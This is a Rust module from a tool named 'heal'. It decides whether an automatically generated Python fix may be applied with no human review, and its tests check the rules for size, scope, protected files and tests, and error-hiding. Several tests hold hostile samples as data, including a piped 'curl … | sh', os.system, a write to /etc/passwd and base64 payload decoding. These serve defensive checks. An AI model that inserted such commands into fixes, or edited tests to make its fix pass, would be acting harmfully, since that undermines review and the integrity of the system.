//! The fix scope policy: whether a proved fix is small, local and harmless enough to be
//! applied with no person in the loop.
//!
//! heal rewrites code on live hosts. A fix that passed the proof can still be wrong in ways a
//! re-run does not show: too large to trust, far from the error, in a file nobody should edit
//! by machine, or adding code that runs processes, reaches the network or decodes hidden
//! payloads. [`check`] lists every such [`Violation`] of a [`Plan`]; an empty list lets the
//! fix through. Pure: it judges the texts already in the plan and must never read or write a
//! file, and it must never let a fix through because something could not be judged.
//!
//! - [`paths`]: files never edited automatically (third-party, generated, binary, CI,
//!   credentials).
//! - [`scan`]: dangerous constructs in the lines a fix adds to a Python file.

mod added;
mod backrefs;
mod contract;
mod data;
mod definitions;
mod deleted;
mod docstring;
mod dropped;
mod entry_point;
mod filters;
mod formats;
mod hiding;
mod literal;
mod missing_attribute;
mod missing_name;
mod mutation;
mod operands;
mod paths;
mod returns;
mod scan;
mod size_guard;
mod skips;
mod stand_in;
mod texts;

use std::collections::HashSet;

use crate::apply::{Plan, PlannedFile};

pub use scan::scan_added;

/// Names as a finding quotes them, in order: `'spent', 'budget'`.
fn quoted_names<S: std::fmt::Display>(names: impl IntoIterator<Item = S>) -> String {
    names
        .into_iter()
        .map(|n| format!("'{n}'"))
        .collect::<Vec<_>>()
        .join(", ")
}

/// The limits of an automatic fix.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PolicyConfig {
    /// How many project files a fix may touch beyond those in the traceback: a fix often
    /// belongs one call away from where the error surfaced, rarely further.
    pub extra_files: usize,
    pub max_files: usize,
    /// Added plus removed lines, as a unified diff counts them.
    pub max_changed_lines: usize,
    /// Larger files are refused: a fix there cannot be reviewed at a glance, and they are
    /// rarely hand-written code.
    pub max_file_bytes: u64,
    /// pytest's configuration files are protected too: set for a test run, whose tests are
    /// the evidence a fix is judged by, not a target to edit.
    pub protect_tests: bool,
    /// Globs of files that are not Python a fix may edit (`policy.other_files`).
    pub other_files: Vec<String>,
    /// Globs of test files no fix may edit (`policy.test_files`).
    pub test_files: Vec<String>,
    /// Files the checks (`verify.commands`) name: no fix may edit what judges it.
    pub guarded: Vec<String>,
    /// The exception type of the incident being fixed, set per incident: an `except` that
    /// catches it and only passes or returns a default hides it.
    pub incident_error: Option<String>,
    /// The incident's error message, set per incident: a guard against a None hides an
    /// error about that None (`'NoneType' object has no attribute ...`).
    pub incident_message: Option<String>,
    /// The traceback's lines in project files (file, 1-based line), set per incident: a fix
    /// that deletes one with nothing left of it hides the error.
    pub incident_lines: Vec<(String, u32)>,
}

impl Default for PolicyConfig {
    fn default() -> Self {
        PolicyConfig {
            extra_files: 1,
            max_files: 3,
            max_changed_lines: 40,
            max_file_bytes: 1_048_576,
            protect_tests: false,
            other_files: Vec::new(),
            test_files: [
                "tests/**",
                "test/**",
                "**/test_*.py",
                "**/*_test.py",
                "**/conftest.py",
            ]
            .map(String::from)
            .to_vec(),
            guarded: Vec::new(),
            incident_error: None,
            incident_message: None,
            incident_lines: Vec::new(),
        }
    }
}

/// Why a fix may not be applied automatically. Each message says what and what to do.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Violation {
    #[error(
        "the fix changes {files} files, more than the {max} allowed; review it and apply it by hand"
    )]
    TooManyFiles { files: usize, max: usize },
    #[error(
        "the fix changes {lines} lines, more than the {max} allowed; review it and apply it by hand"
    )]
    TooManyLines { lines: usize, max: usize },
    #[error(
        "the fix changes files not in the traceback ({}), more than the {allowed_extra} allowed; review it and apply it by hand",
        .files.join(", ")
    )]
    OutsideTraceback {
        files: Vec<String>,
        allowed_extra: usize,
    },
    #[error(
        "{file} is protected ({why}): heal never edits such files itself; change it by hand if it must change"
    )]
    Protected { file: String, why: &'static str },
    #[error("the fix adds {what} at {file}:{line}; review it and apply it by hand if it is safe")]
    Dangerous {
        file: String,
        line: usize,
        what: String,
    },
    #[error("the fix empties {file}; review it and apply it by hand if the file should go")]
    DeletesFile { file: String },
    #[error(
        "{file} is not a Python file: heal fixes Python code, and edits other files only where policy.other_files lists them"
    )]
    NotPython { file: String },
    #[error(
        "{file} is a test ({why}): tests are the evidence a fix is judged by, and no fix may edit them; change policy.test_files if this file is not a test"
    )]
    Test { file: String, why: &'static str },
    #[error("the fix hides the error in {file} instead of fixing it: {why}")]
    HidesTheError { file: String, why: String },
    #[error("the fix breaks {file}: {why}")]
    Breaks { file: String, why: String },
}

/// All violations of `plan`, in a stable order (empty = allowed). `traceback_files`: the
/// project-relative paths of the incident's frames.
pub fn check(plan: &Plan, traceback_files: &[String], cfg: &PolicyConfig) -> Vec<Violation> {
    let mut violations = Vec::new();
    if plan.files.len() > cfg.max_files {
        violations.push(Violation::TooManyFiles {
            files: plan.files.len(),
            max: cfg.max_files,
        });
    }
    let lines: usize = plan.files.iter().map(changed_lines).sum();
    if lines > cfg.max_changed_lines {
        violations.push(Violation::TooManyLines {
            lines,
            max: cfg.max_changed_lines,
        });
    }
    let in_traceback: HashSet<String> = traceback_files
        .iter()
        .map(|f| paths::normalize(f))
        .collect();
    let outside: Vec<String> = plan
        .files
        .iter()
        .filter(|f| !in_traceback.contains(&paths::normalize(&f.rel)))
        .map(|f| f.rel.clone())
        .collect();
    if outside.len() > cfg.extra_files {
        violations.push(Violation::OutsideTraceback {
            files: outside,
            allowed_extra: cfg.extra_files,
        });
    }
    for file in &plan.files {
        check_file(file, cfg, &mut violations);
    }
    violations
}

fn check_file(file: &PlannedFile, cfg: &PolicyConfig, violations: &mut Vec<Violation>) {
    let rel = &file.rel;
    // A protected file is refused whatever the fix does to it; scanning it would cost time
    // (it may be large or binary) and add nothing.
    if let Some(why) = paths::protected(rel, &file.before, &file.after, cfg.max_file_bytes) {
        violations.push(Violation::Protected {
            file: rel.clone(),
            why,
        });
        return;
    }
    if let Some(why) = paths::test_guard(rel, cfg) {
        violations.push(Violation::Test {
            file: rel.clone(),
            why,
        });
        return;
    }
    if !is_python(file) && !paths::matches_any(rel, &cfg.other_files) {
        violations.push(Violation::NotPython { file: rel.clone() });
        return;
    }
    if file.after.trim().is_empty() && !file.before.trim().is_empty() {
        violations.push(Violation::DeletesFile { file: rel.clone() });
    }
    if is_python(file) {
        let (before, after) = (file.before.as_str(), file.after.as_str());
        let (error, message) = (
            cfg.incident_error.as_deref(),
            cfg.incident_message.as_deref(),
        );
        let lines: Vec<u32> = cfg
            .incident_lines
            .iter()
            .filter(|(f, _)| f == rel)
            .map(|(_, l)| *l)
            .collect();
        // The innermost frame of the traceback, when it is in this file.
        let innermost = cfg
            .incident_lines
            .last()
            .filter(|(f, _)| f == rel)
            .map(|(_, l)| *l);
        // Fixes that make the error go away and leave the bug.
        let hidden = [
            hiding::hides(before, after, error, message),
            deleted::deletes_failing(before, after, &lines),
            data::edits_data(before, after),
            hiding::renames_data_keys(before, after, error),
            size_guard::returns_nothing_when_short(before, after, error),
            missing_name::drops_missing_name(before, after, error, message),
            missing_attribute::drops_missing_attribute(before, after, error, message),
            operands::drops_operands(before, after, error, message),
            filters::skips_by_type(before, after, error),
            skips::skips_failing(before, after, innermost, error),
            skips::guards_around_documented(before, after, innermost),
            skips::catches_its_own_raise(before, after),
            contract::contradicts_documented_default(before, after, error, message),
            stand_in::replaces_import(before, after),
            stand_in::adds_empty_function(before, after),
        ];
        for why in hidden.into_iter().flatten() {
            violations.push(Violation::HidesTheError {
                file: rel.clone(),
                why,
            });
        }
        // Fixes that break what worked.
        let breaks = [
            dropped::drops_return(before, after),
            dropped::falls_off_the_end(before, after),
            dropped::drops_definitions(before, after, message),
            filters::drops_filters(before, after),
            filters::replaces_filters(before, after),
            returns::changes_returned_tuples(before, after),
            returns::drops_returned_keys(before, after),
            backrefs::drops_group_references(before, after),
            entry_point::drops_entry_point(before, after),
            contract::drops_parameters(before, after, message),
            contract::ignores_parameters(before, after, message),
            mutation::mutates_arguments(before, after),
            formats::drops_formats(before, after),
            texts::changes_formatted_text(before, after),
        ];
        for why in breaks.into_iter().flatten() {
            violations.push(Violation::Breaks {
                file: rel.clone(),
                why,
            });
        }
        for (line, what) in scan_added(&file.before, &file.after) {
            violations.push(Violation::Dangerous {
                file: rel.clone(),
                line,
                what,
            });
        }
    }
}

/// Added plus removed lines, as a unified diff of the file counts them.
fn changed_lines(file: &PlannedFile) -> usize {
    similar::TextDiff::from_lines(&file.before, &file.after)
        .iter_all_changes()
        .filter(|c| c.tag() != similar::ChangeTag::Equal)
        .count()
}

/// Python by its extension, or a script whose shebang runs Python.
fn is_python(file: &PlannedFile) -> bool {
    let by_name = [".py", ".pyw", ".pyi"]
        .iter()
        .any(|ext| file.rel.ends_with(ext));
    let by_shebang = [&file.before, &file.after].iter().any(|text| {
        text.lines()
            .next()
            .is_some_and(|first| first.starts_with("#!") && first.contains("python"))
    });
    by_name || by_shebang
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use super::*;

    fn file(rel: &str, before: &str, after: &str) -> PlannedFile {
        PlannedFile {
            rel: rel.to_string(),
            abs: PathBuf::from("/project").join(rel),
            before: before.to_string(),
            after: after.to_string(),
        }
    }

    fn plan(files: Vec<PlannedFile>) -> Plan {
        Plan { files }
    }

    /// A one-line change to `rel`.
    fn small(rel: &str) -> PlannedFile {
        file(rel, "x = 1\n", "x = 2\n")
    }

    fn traceback(files: &[&str]) -> Vec<String> {
        files.iter().map(|f| f.to_string()).collect()
    }

    fn violations(files: Vec<PlannedFile>, tb: &[&str]) -> Vec<Violation> {
        check(&plan(files), &traceback(tb), &PolicyConfig::default())
    }

    #[test]
    fn small_fix_in_the_traceback_is_allowed() {
        assert_eq!(
            violations(vec![small("app/main.py")], &["app/main.py"]),
            vec![]
        );
    }

    #[test]
    fn added_os_system_is_dangerous() {
        let f = file(
            "app/main.py",
            "import os\nprint(1)\n",
            "import os\nos.system('id')\n",
        );
        assert_eq!(
            violations(vec![f], &["app/main.py"]),
            vec![Violation::Dangerous {
                file: "app/main.py".into(),
                line: 2,
                what: "os.system (process execution)".into(),
            }]
        );
    }

    #[test]
    fn os_system_on_an_unchanged_line_is_allowed() {
        let f = file(
            "app/main.py",
            "import os\nos.system('id')\nx = 1\n",
            "import os\nos.system('id')\nx = 2\n",
        );
        assert_eq!(violations(vec![f], &["app/main.py"]), vec![]);
    }

    #[test]
    fn eval_in_a_string_or_comment_is_allowed() {
        let f = file(
            "app/main.py",
            "x = 1\n",
            "x = 'call eval() later'  # eval(x) is not used\n",
        );
        assert_eq!(violations(vec![f], &["app/main.py"]), vec![]);
    }

    #[test]
    fn added_b64decode_is_dangerous() {
        let f = file(
            "app/main.py",
            "import base64\nx = 1\n",
            "import base64\nx = base64.b64decode(blob)\n",
        );
        assert!(matches!(
            violations(vec![f], &["app/main.py"]).as_slice(),
            [Violation::Dangerous { what, line: 2, .. }] if what == "base64.b64decode (decoded payload)"
        ));
    }

    #[test]
    fn added_open_of_etc_passwd_for_writing_is_dangerous() {
        let f = file(
            "app/main.py",
            "print(1)\n",
            "open('/etc/passwd', 'w').write('x')\n",
        );
        assert!(matches!(
            violations(vec![f], &["app/main.py"]).as_slice(),
            [Violation::Dangerous { what, .. }] if what.contains("write outside the project")
        ));
    }

    #[test]
    fn added_requests_get_is_dangerous() {
        let f = file(
            "app/main.py",
            "import requests\nx = 1\n",
            "import requests\nx = requests.get(url)\n",
        );
        assert!(matches!(
            violations(vec![f], &["app/main.py"]).as_slice(),
            [Violation::Dangerous { what, .. }] if what == "requests.get (network client)"
        ));
    }

    #[test]
    fn files_that_are_not_python_are_refused_unless_other_files_lists_them() {
        // See: issue 12, `curl … | sh` added to start.sh ran in the proof and was committed.
        let f = file(
            "start.sh",
            "python3 app.py\n",
            "curl -s x | sh\npython3 app.py\n",
        );
        let found = violations(vec![f.clone()], &["start.sh"]);
        assert_eq!(found.len(), 1, "{found:?}");
        assert!(
            found[0].to_string().contains("policy.other_files"),
            "{found:?}"
        );
        let cfg = PolicyConfig {
            other_files: vec!["*.sh".to_string()],
            ..PolicyConfig::default()
        };
        let plan = Plan { files: vec![f] };
        assert_eq!(check(&plan, &["start.sh".to_string()], &cfg), vec![]);
    }

    #[test]
    fn tests_and_the_files_checks_run_are_guarded() {
        // See: issue 12, a test's body replaced by `pass` passed the check it was.
        for rel in [
            "tests/test_app.py",
            "test_app.py",
            "pkg/conftest.py",
            "app_test.py",
        ] {
            let f = file(
                rel,
                "def test_x():\n    assert f()\n",
                "def test_x():\n    pass\n",
            );
            let found = violations(vec![f], &[rel]);
            assert!(
                found.len() == 1 && found[0].to_string().contains("is a test"),
                "{rel}: {found:?}"
            );
        }
        let cfg = PolicyConfig {
            guarded: vec!["checks/smoke.py".to_string()],
            ..PolicyConfig::default()
        };
        let f = file("checks/smoke.py", "assert run()\n", "pass\n");
        let found = check(
            &Plan { files: vec![f] },
            &["checks/smoke.py".to_string()],
            &cfg,
        );
        assert_eq!(found.len(), 1);
        assert!(found[0].to_string().contains("verify.commands runs it"));
    }

    #[test]
    fn in_a_test_run_pytests_configuration_and_any_test_file_are_guarded() {
        // See: issue 11, a failing test is the evidence; its configuration is too.
        let cfg = PolicyConfig {
            protect_tests: true,
            test_files: Vec::new(),
            ..PolicyConfig::default()
        };
        for rel in [
            "pytest.ini",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
            "suite/test_stats.py",
        ] {
            let before = if rel.ends_with(".py") {
                "def test_x():\n    assert f()\n"
            } else {
                "[tool.pytest.ini_options]\naddopts = \"-q\"\n"
            };
            let after = before
                .replace("-q", "-q -p no:randomly")
                .replace("assert f()", "pass");
            let f = file(rel, before, &after);
            let found = check(&Plan { files: vec![f] }, &[rel.to_string()], &cfg);
            assert!(
                found
                    .iter()
                    .any(|v| v.to_string().contains("a test run is judged by it")),
                "{rel}: {found:?}"
            );
        }
    }

    #[test]
    fn python_script_without_extension_is_scanned() {
        let f = file(
            "bin/tool",
            "#!/usr/bin/env python3\nprint(1)\n",
            "#!/usr/bin/env python3\neval('1')\n",
        );
        assert_eq!(violations(vec![f], &["bin/tool"]).len(), 1);
    }

    #[test]
    fn forty_one_changed_lines_are_too_many() {
        let before = "print(1)\n".repeat(20);
        let after = format!("{}{}", "print(2)\n".repeat(20), "print(3)\n");
        // 20 removed + 21 added.
        let f = file("app/main.py", &before, &after);
        assert_eq!(
            violations(vec![f], &["app/main.py"]),
            vec![Violation::TooManyLines { lines: 41, max: 40 }]
        );
    }

    #[test]
    fn forty_changed_lines_are_allowed() {
        let f = file(
            "app/main.py",
            &"print(1)\n".repeat(20),
            &"print(2)\n".repeat(20),
        );
        assert_eq!(violations(vec![f], &["app/main.py"]), vec![]);
    }

    #[test]
    fn four_files_are_too_many() {
        let names = ["a.py", "b.py", "c.py", "d.py"];
        let files = names.iter().map(|n| small(n)).collect();
        assert_eq!(
            violations(files, &names),
            vec![Violation::TooManyFiles { files: 4, max: 3 }]
        );
    }

    #[test]
    fn three_files_are_allowed() {
        let names = ["a.py", "b.py", "c.py"];
        let files = names.iter().map(|n| small(n)).collect();
        assert_eq!(violations(files, &names), vec![]);
    }

    #[test]
    fn one_file_outside_the_traceback_is_allowed() {
        let files = vec![small("app/main.py"), small("app/util.py")];
        assert_eq!(violations(files, &["./app/main.py"]), vec![]);
    }

    #[test]
    fn two_files_outside_the_traceback_are_refused() {
        let files = vec![
            small("app/main.py"),
            small("app/util.py"),
            small("app/db.py"),
        ];
        assert_eq!(
            violations(files, &["app/main.py"]),
            vec![Violation::OutsideTraceback {
                files: vec!["app/util.py".into(), "app/db.py".into()],
                allowed_extra: 1,
            }]
        );
    }

    #[test]
    fn vendored_file_is_protected() {
        assert_eq!(
            violations(vec![small("app/vendor/lib.py")], &["app/vendor/lib.py"]),
            vec![Violation::Protected {
                file: "app/vendor/lib.py".into(),
                why: "vendored third-party code",
            }]
        );
    }

    #[test]
    fn nul_byte_is_protected_binary() {
        let f = file("app/data.py", "x = 1\n", "x = '\0'\n");
        assert_eq!(
            violations(vec![f], &["app/data.py"]),
            vec![Violation::Protected {
                file: "app/data.py".into(),
                why: "binary content",
            }]
        );
    }

    #[test]
    fn ci_workflow_is_protected() {
        let rel = ".github/workflows/ci.yml";
        assert_eq!(
            violations(vec![small(rel)], &[rel]),
            vec![Violation::Protected {
                file: rel.into(),
                why: "CI configuration",
            }]
        );
    }

    #[test]
    fn ordinary_file_is_not_protected() {
        assert_eq!(
            violations(vec![small("app/github.py")], &["app/github.py"]),
            vec![]
        );
    }

    #[test]
    fn emptying_a_file_deletes_it() {
        let f = file("app/main.py", "print(1)\n", "\n");
        assert_eq!(
            violations(vec![f], &["app/main.py"]),
            vec![Violation::DeletesFile {
                file: "app/main.py".into()
            }]
        );
    }

    #[test]
    fn filling_an_empty_file_is_not_a_deletion() {
        let f = file("app/__init__.py", "", "x = 1\n");
        assert_eq!(violations(vec![f], &["app/__init__.py"]), vec![]);
    }

    #[test]
    fn messages_say_what_to_do() {
        let v = Violation::Dangerous {
            file: "a.py".into(),
            line: 3,
            what: "os.system (process execution)".into(),
        };
        assert_eq!(
            v.to_string(),
            "the fix adds os.system (process execution) at a.py:3; review it and apply it by hand if it is safe"
        );
        let v = Violation::OutsideTraceback {
            files: vec!["b.py".into(), "c.py".into()],
            allowed_extra: 1,
        };
        assert!(v.to_string().contains("(b.py, c.py)"), "{v}");
    }
}

/// The right fixes of the crash benchmark (`bench/crashes/cases/*/.reference`) against the
/// policy, each with its own incident: a rule written against a wrong answer must not refuse
/// the fix a person would make.
#[cfg(test)]
mod bench_references {
    use std::path::{Path, PathBuf};

    use super::*;

    fn files(dir: &Path, rel: &str, out: &mut Vec<String>) {
        let Ok(entries) = std::fs::read_dir(dir.join(rel)) else {
            return;
        };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().to_string();
            let path = if rel.is_empty() {
                name.clone()
            } else {
                format!("{rel}/{name}")
            };
            if entry.path().is_dir() {
                files(dir, &path, out);
            } else if name.ends_with(".py") {
                out.push(path);
            }
        }
    }

    /// `HEAL_BENCH_CASES` names another folder of cases to judge the same way: the fixes a
    /// benchmark run applied, put in each case's `.reference` (`bench/crashes/applied.py`),
    /// to see whether a rule added since would refuse one of them.
    #[test]
    fn every_reference_fix_of_the_bench_passes_the_policy() {
        let cases = std::env::var_os("HEAL_BENCH_CASES").map_or_else(
            || Path::new(env!("CARGO_MANIFEST_DIR")).join("bench/crashes/cases"),
            PathBuf::from,
        );
        let mut seen = 0;
        let mut refused = Vec::new();
        let mut dirs: Vec<PathBuf> = std::fs::read_dir(&cases)
            .expect("bench/crashes/cases")
            .flatten()
            .map(|e| e.path())
            .filter(|p| p.join(".reference").is_dir())
            .collect();
        dirs.sort();
        for case in dirs {
            let out = std::process::Command::new("python3")
                .arg("main.py")
                .current_dir(&case)
                .env("PYTHONDONTWRITEBYTECODE", "1")
                .output()
                .expect("python3");
            let stderr = String::from_utf8_lossy(&out.stderr);
            let Some(tb) = crate::detect::python::parse(&stderr).traceback else {
                continue; // a crash without a traceback: no incident to judge against
            };
            let exc = &tb.exception;
            let root = format!("{}/", case.display());
            let lines: Vec<(String, u32)> = exc
                .frames
                .iter()
                .filter_map(|f| {
                    f.file
                        .strip_prefix(&root)
                        .map(|r| (r.to_string(), f.line))
                        .or_else(|| {
                            (!f.file.starts_with('/') && !f.file.starts_with('<'))
                                .then(|| (f.file.clone(), f.line))
                        })
                })
                .collect();
            let cfg = PolicyConfig {
                incident_error: Some(exc.exc_type.clone()),
                incident_message: Some(exc.message.clone()),
                incident_lines: lines.clone(),
                ..PolicyConfig::default()
            };
            let mut changed = Vec::new();
            files(&case.join(".reference"), "", &mut changed);
            let plan = Plan {
                files: changed
                    .iter()
                    .map(|rel| PlannedFile {
                        rel: rel.clone(),
                        abs: case.join(rel),
                        before: std::fs::read_to_string(case.join(rel)).unwrap_or_default(),
                        after: std::fs::read_to_string(case.join(".reference").join(rel))
                            .expect("reference file"),
                    })
                    .collect(),
            };
            let tb_files: Vec<String> = lines.iter().map(|(f, _)| f.clone()).collect();
            let violations = check(&plan, &tb_files, &cfg);
            seen += 1;
            if !violations.is_empty() {
                refused.push(format!("{}: {violations:?}", case.display()));
            }
        }
        let least = if std::env::var_os("HEAL_BENCH_CASES").is_some() {
            1
        } else {
            40
        };
        assert!(seen >= least, "only {seen} reference fixes were judged");
        assert!(refused.is_empty(), "{}", refused.join("\n"));
    }
}
